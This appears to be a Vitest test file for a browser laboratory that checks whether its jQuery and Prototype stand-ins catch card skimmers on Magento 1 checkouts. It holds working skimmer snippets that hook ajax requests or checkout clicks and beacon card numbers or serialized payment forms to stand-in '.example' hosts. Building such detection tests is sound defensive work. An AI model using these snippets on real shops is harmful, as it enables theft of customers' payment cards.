// Guards that the laboratory's stand-ins for jQuery and Prototype call what scripts hang into their requests, and take what scripts of Magento 1 do with fields.
import { describe, expect, it } from 'vitest'
import { all, run, shareBrowser } from './run.ts'

shareBrowser()

const send = (what: string) => `if (/cc_number/.test(${what})) new Image().src = 'https://seen-often.example/j?' + ${what}`

describe('jQuery’s requests', () => {
  it.each([
    ['ajaxSend', `jQuery(document).ajaxSend(function (event, request, settings) { ${send('settings.data')} })`],
    ['ajaxSend as an event', `$(document).on('ajaxSend', function (event, request, settings) { ${send('settings.data')} })`],
    ['ajaxPrefilter', `$.ajaxPrefilter(function (options) { ${send('options.data')} })`],
    ['ajaxSuccess', `$(document).ajaxSuccess(function (event, request, settings) { ${send('settings.data')} })`],
    ['ajaxSetup', `$.ajaxSetup({ beforeSend: function (request, settings) { ${send('settings.data')} } })`],
  ])('are seen through %s', async (_name, code) => {
    expect(all(await run(code), 'sends')).toContainEqual(expect.objectContaining({ what: 'card', to: 'seen-often.example' }))
  })
})

/** Each sends the card to the host of its name. */
const ofPrototype: Record<string, string> = {
  value: "$('payment-continue').observe('click', () => send($('ccsave_cc_number').value))",
  'get-value': "Event.observe('payment-continue', 'click', (event) => { Event.stop(event); send($('ccsave_cc_number').getValue()) })",
  'dollar-f': "Event.observe($('payment-continue'), 'click', () => send($F('ccsave_cc_number')))",
  wrapped: 'payment.save = payment.save.wrap(function (inner) { send($F("ccsave_cc_number")); return inner() })',
  invoked: "$$('.btn-checkout').invoke('observe', 'click', () => send($$('#co-payment-form input').pluck('value').join()))",
  each: "$$('.btn-checkout').each((button) => button.on('click', () => send(button.up('form').select('input').inject('', (all, one) => all + one.value + ' '))))",
  serialized: "$('payment-continue').observe('click', () => send(Object.toJSON($('co-payment-form').serialize(true))))",
  responder:
    "Ajax.Responders.register({ onCreate: (request) => send(request.body) }); $('payment-continue').observe('click', () => new Ajax.Request('/checkout/payment/save', { parameters: { card: $F('ccsave_cc_number') } }))",
  made: "const Taker = Class.create({ initialize(id) { $(id).observe('click', this.take.bindAsEventListener(this)) }, take() { send($F('ccsave_cc_number')) } }); new Taker('payment-continue')",
}

it('takes Prototype’s calls', async () => {
  const told = await run(
    Object.entries(ofPrototype)
      .map(([name, code]) => `(() => { const send = (text) => navigator.sendBeacon('https://${name}.example/', text); ${code} })();`)
      .join('\n'),
  )
  const to = all(told, 'sends').flatMap(({ what, to }) => (what === 'card' ? [to.replace('.example', '')] : []))
  expect([told.why, [...new Set(to)].sort()]).toEqual([null, Object.keys(ofPrototype).sort()])
})
